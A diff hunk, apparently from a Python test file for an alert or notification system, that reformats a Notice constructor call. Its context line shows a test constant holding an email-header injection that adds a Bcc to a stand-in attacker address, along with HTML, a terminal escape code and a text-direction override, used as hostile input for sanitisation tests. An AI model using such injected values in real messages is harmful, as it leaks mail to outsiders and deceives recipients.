@@ -31,8 +31,16 @@ HOSTILE = "silent\r\nBcc: thief@evil.example\r\n\r\n<b>\x1b[31m\u202e" + "x" * 4
 
 
 def notice(text: str = "The Pi does not answer", event: Event = "begin") -> Notice:
-    return Notice("a1", event, "pi-away", text, "urgent", "/office/status",
-                  "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z")  # fmt: skip
+    return Notice(
+        "a1",
+        event,
+        "pi-away",
+        text,
+        "urgent",
+        "/office/status",
+        "2026-11-20T10:00:00Z",
+        "2026-11-20T10:01:00Z",
+    )
 
 
 VET = "vet@farm.example"
